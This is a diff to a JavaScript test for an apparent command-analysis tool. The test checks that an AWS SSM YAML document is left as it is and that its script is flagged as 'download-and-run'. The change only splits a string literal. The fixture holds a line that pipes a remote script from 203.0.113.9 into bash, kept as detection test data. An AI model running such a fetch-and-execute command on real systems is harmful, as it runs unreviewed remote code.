@@ -130,7 +130,8 @@ describe('documentSteps', () => {
 
   it('leaves YAML as it is, in which a script is found all the same', () => {
     const yaml =
-      "schemaVersion: '2.2'\nmainSteps:\n  - action: aws:runShellScript\n    name: clean\n    inputs:\n      runCommand:\n        - curl -s http://203.0.113.9/setup.sh | bash\n"
+      "schemaVersion: '2.2'\nmainSteps:\n  - action: aws:runShellScript\n    name: clean\n    inputs:\n      " +
+      'runCommand:\n        - curl -s http://203.0.113.9/setup.sh | bash\n'
     const { text } = documentSteps(yaml)
     expect(text).toBe(yaml)
     expect(analyzeCommand(text).strong.map(({ category }) => category)).toEqual(['download-and-run'])
